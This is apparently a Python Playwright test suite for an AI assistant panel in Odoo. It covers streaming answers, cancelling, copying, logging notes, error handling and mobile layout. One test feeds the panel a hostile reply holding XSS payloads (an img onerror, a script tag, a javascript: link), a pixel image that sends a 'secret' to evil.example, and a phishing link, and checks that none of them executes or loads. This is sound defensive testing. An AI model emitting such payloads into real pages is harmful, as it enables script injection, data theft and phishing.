"""Ask about a record beside it: the answer streams in, and is stopped, copied, sent or logged."""

from __future__ import annotations

import re
from contextlib import closing

import pytest
from playwright.sync_api import expect

from ..product.asking import Question
from ..product.client import Client
from ..product.llm_scripted import error, refuse, say, stall, wait
from ..product.running import DATABASE
from .ai_panel import AiPanel

ANSWER = """\
**Azure Interior** buys *regularly*, and pays late.

## What stands out
- Two invoices are open, the older one since **42 days**
- Nobody has answered their last message:
  1. they ask for the delivery date
  2. and for a copy of the order

| Invoice | Due | Amount |
|---|---|---:|
| INV/2026/0007 | 3 May | 1,200.00 |
| INV/2026/0011 | 19 May | 310.50 |

Their terms are on [their site](https://azure.example/terms).
"""
LINE = "They owe 1,510.50, and wait for an answer about the delivery."
HOSTILE = """\
<img src=x onerror="window.attacked = 1"> <script>window.attacked = 2</script>
![pixel](https://evil.example/?q=secret) [click](javascript:window.attacked=3)
[your bank](https://evil.example/login)
"""


def spoken(text: str, pause: float = 0.01):
    """A reply of a word at a time."""
    words = text.split(" ")
    return [step for word in words for step in (say(f"{word} "), wait(pause))]


@pytest.fixture
def partner(admin):
    values = {"name": "Azure Interior", "email": "hello@azure.example", "city": "Fremont"}
    return admin.call("res.partner", "create", [values])[0]


@pytest.fixture
def panel(web, llm, partner):
    web.page.evaluate("localStorage.clear()")
    panel = AiPanel(web)
    panel.open_record("res.partner", partner)
    return panel


def open_from_chatter(panel):
    panel.page.locator(".o_ai_chatter").click()
    expect(panel.box).to_be_focused()


def test_from_question_to_note(web, panel, llm):
    open_from_chatter(panel)
    expect(panel.title).to_have_text("Azure Interior")
    expect(panel.where).to_contain_text("llama3.2 on")
    expect(panel.where).to_contain_text("in your network")
    web.screenshot("ask-ai-empty-1400")

    llm.script([*spoken(ANSWER[:60]), wait(8), *spoken(ANSWER[60:])], [say(LINE)])
    panel.button("Summarise").click()
    expect(panel.answer()).to_contain_text("pays late")
    panel.await_state("running")
    web.screenshot("ask-ai-streaming-1400")
    panel.await_state("done")
    expect(panel.answer().locator("strong").first).to_have_text("Azure Interior")
    expect(panel.answer().locator("tbody tr")).to_have_count(2)
    assert "Fremont" in str(llm.sent()[0]["messages"]), "the model was told of the record"

    panel.ask("And in one line?")
    panel.await_state("done")
    assert ANSWER[:20] in str(llm.sent()[1]["messages"]), "and of what was said before"
    expect(panel.answer()).to_contain_text(LINE)
    panel.root.locator(".o_ai_run").first.scroll_into_view_if_needed()
    web.picture("ask-ai")
    web.screenshot("ask-ai-1400")

    web.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    panel.root.locator(".o_ai_copy").first.click()
    web.page.wait_for_function(
        "navigator.clipboard.readText().then((text) => text.includes('Azure Interior'))"
    )
    copied = web.page.evaluate("navigator.clipboard.readText()")
    assert copied.split() == ANSWER.split(), "as the model wrote it"
    panel.button("Log as note").last.click()
    note = web.page.locator(".o-mail-Message", has_text=LINE)
    expect(note).to_contain_text("Written by llama3.2")
    panel.button("Insert into message").last.click()
    composer = web.page.locator(".modal .o_mail_composer_form_view, .modal .o_form_view")
    expect(composer).to_contain_text(LINE)
    web.screenshot("ask-ai-composer-1400")
    web.page.locator(".modal .btn-close").click()

    web.at_width(390)
    web.screenshot("ask-ai-390")
    web.picture("ask-ai-phone")
    assert web.console_errors == []


def test_cancel_stops_the_model(web, panel, llm):
    open_from_chatter(panel)
    llm.script([say("The first words"), stall()], [say("The second try")])
    panel.ask("What is this?")
    expect(panel.answer()).to_contain_text("The first words")
    panel.button("Cancel").click()
    panel.await_state("cancelled")
    expect(panel.answer()).to_contain_text("The first words")
    # as it is kept: the page has waited to be told
    expect(panel.answer().locator(".o_ai_figures")).to_contain_text(re.compile(r"\d s"))
    assert llm.wait_for_generating(0, 10)
    web.screenshot("ask-ai-cancelled-1400")
    panel.button("Ask again").click()
    expect(panel.answer()).to_contain_text("The second try")
    panel.await_state("done")


def test_closing_the_panel_stops_the_model(web, panel, llm):
    open_from_chatter(panel)
    llm.script([say("The first words"), stall()])
    panel.ask("Is anybody there?")
    expect(panel.answer()).to_contain_text("The first words")
    panel.box.press("Escape")
    expect(panel.root).to_have_count(0)
    assert llm.wait_for_generating(0, 10)


def test_an_answer_is_text(web, panel, llm):
    open_from_chatter(panel)
    loaded = []
    web.page.on("request", lambda request: loaded.append(request.url))
    llm.script([say(HOSTILE)])
    panel.ask("Attack me")
    panel.await_state("done")
    expect(panel.answer()).to_contain_text('<img src=x onerror="window.attacked = 1">')
    expect(panel.answer().locator("img, script, iframe")).to_have_count(0)
    links = panel.answer().locator("a")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://evil.example/?q=secret",
        "https://evil.example/login",
    ]
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer"}
    expect(panel.answer()).to_contain_text("your bank (https://evil.example/login)")
    assert web.page.evaluate("window.attacked") is None
    assert not [url for url in loaded if "evil.example" in url]


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        pytest.param(refuse(500, "out of memory"), "out of memory", id="before the first word"),
        pytest.param([say("Half"), error("out of memory")], "out of memory", id="in mid-answer"),
    ],
)
def test_what_went_wrong_and_what_to_do(web, panel, llm, reply, message):
    open_from_chatter(panel)
    # a passing error before the first word is tried again by itself
    llm.script(*[reply] * (1 if len(reply) > 1 else 5))
    panel.ask("What is this?")
    panel.await_state("failed")
    expect(panel.answer().locator(".o_ai_error")).to_contain_text(message)
    expect(panel.answer().locator(".o_ai_remedy")).to_contain_text("look into")
    web.screenshot("ask-ai-failed-1400")
    llm.reset()
    panel.button("Ask again").last.click()
    expect(panel.answer()).to_contain_text("Hello from the script.")


def test_it_says_how_many_come_first(web, panel, llm, company, stack):
    other = Client(stack.url, DATABASE, company.SECOND_USER, company.SECOND_PASSWORD)
    llm.script([say("Theirs"), stall()], [wait(8), say("Mine")])
    question = Question(other, "Mine first")
    with closing(question.open()) as page:
        assert next(page) == ("delta", {"text": "Theirs"})
        open_from_chatter(panel)
        panel.ask("And me?")
        expect(panel.answer()).to_contain_text("Waiting: one question comes first")
        web.screenshot("ask-ai-waiting-1400")
    expect(panel.answer()).to_contain_text("Thinking")
    panel.await_state("done")
    expect(panel.answer()).to_contain_text("Mine")


def test_it_follows_to_another_record(web, panel, llm, admin):
    open_from_chatter(panel)
    llm.script([say("About Azure"), wait(3), say(" Interior")])
    panel.ask("Who is this?")
    expect(panel.answer()).to_contain_text("About Azure")

    other = admin.call("res.partner", "create", [{"name": "Deco Addict"}])[0]
    web.page.evaluate(
        """(id) => odoo.__WOWL_DEBUG__.root.env.services.action.doAction({
            type: "ir.actions.act_window", res_model: "res.partner", res_id: id,
            views: [[false, "form"]],
        })""",
        other,
    )
    expect(panel.title).to_have_text("Deco Addict")
    expect(panel.root.locator(".o_ai_run")).to_have_count(0)
    web.page.go_back()
    expect(panel.title).to_have_text("Azure Interior")
    panel.await_state("done")
    expect(panel.answer()).to_contain_text("About Azure Interior")


def test_a_list_and_the_records_selected_in_it_by_the_keyboard(web, panel, llm):
    panel.open_list("res.partner")
    panel.open()
    expect(panel.title).to_have_text("Contact")
    expect(panel.root.locator(".o_ai_empty")).to_contain_text("Ask about this list")
    panel.ask("Which of these is a company?")
    panel.await_state("done")
    assert "the list on the user's screen" in llm.sent()[-1]["messages"][-1]["content"]
    panel.root.locator(".o_ai_close").click()
    rows = web.page.locator(".o_data_row .o_list_record_selector input")
    rows.nth(0).check()
    rows.nth(1).check()
    web.page.keyboard.press("Control+k")
    web.page.get_by_placeholder("Search for a command").fill("Ask AI")
    web.page.get_by_role("option", name="Ask AI").first.click()
    expect(panel.title).to_have_text("2 records")
    expect(panel.box).to_be_focused()
    panel.ask("What do they have in common?")
    panel.await_state("done")
    expect(panel.button("Log as note")).to_have_count(0)
    web.screenshot("ask-ai-list-1400")

    web.page.reload()
    expect(panel.box).to_be_visible()
    panel.box.press("Escape")
    expect(panel.root).to_have_count(0)
    web.page.reload()
    expect(web.page.locator(".o_action_manager > .o_action")).to_be_visible()
    expect(panel.root).to_have_count(0)


def test_earlier_conversations(web, panel, llm):
    open_from_chatter(panel)
    llm.script([say("Forty-two")])
    panel.ask("How many are there?")
    panel.await_state("done")
    panel.button("New conversation").click()
    expect(panel.root.locator(".o_ai_run")).to_have_count(0)
    panel.button("Earlier conversations").click()
    web.page.get_by_role("menuitem", name="How many are there?").click()
    expect(panel.answer()).to_contain_text("Forty-two")


@pytest.fixture
def no_provider(admin):
    """The administrator has switched it off in the settings."""
    set_parameter = ("ir.config_parameter", "set_param", "insightpulse_ai.provider")
    admin.call(*set_parameter, "none")
    yield
    admin.call(*set_parameter, False)


def test_not_set_up_it_leads_to_the_settings(web, panel, no_provider):
    panel.open()
    expect(panel.root).to_contain_text("No language model is set up.")
    expect(panel.box).to_have_count(0)
    web.screenshot("ask-ai-not-set-up-1400")
    panel.button("Open the settings").click()
    expect(web.page.locator(".o_setting_container")).to_contain_text("Language model")


def test_on_a_phone_it_fills_the_screen(web, panel, llm):
    web.at_width(390)
    panel.open()
    box = panel.root.bounding_box()
    assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 390, 844)
    panel.ask("What is this?")
    panel.await_state("done")
    web.screenshot("ask-ai-phone-390")
    panel.button("Close").click()
    expect(panel.root).to_have_count(0)
